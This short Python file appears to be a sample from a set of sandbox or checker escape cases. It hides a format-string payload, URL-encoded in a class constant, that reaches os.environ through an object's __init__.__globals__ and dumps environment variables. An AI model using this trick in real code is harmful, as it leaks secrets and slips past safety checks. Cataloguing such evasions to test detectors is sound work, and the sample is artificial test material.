# family: format
# Escape: cls.<attr>.format(...) is trusted as "a class constant", but the class attribute is computed at
# import time with urllib.parse.unquote: "{0.__init__.__globals__[_os].environ}".
import random
import urllib.parse


class Layout:
    TEMPLATE = urllib.parse.unquote("%7B0.%5F%5Finit%5F%5F.%5F%5Fglobals%5F%5F%5B%5Fos%5D.environ%7D")

    @classmethod
    def render(cls, value) -> str:
        return cls.TEMPLATE.format(value)


def tool() -> str:
    return Layout.render(random.Random())
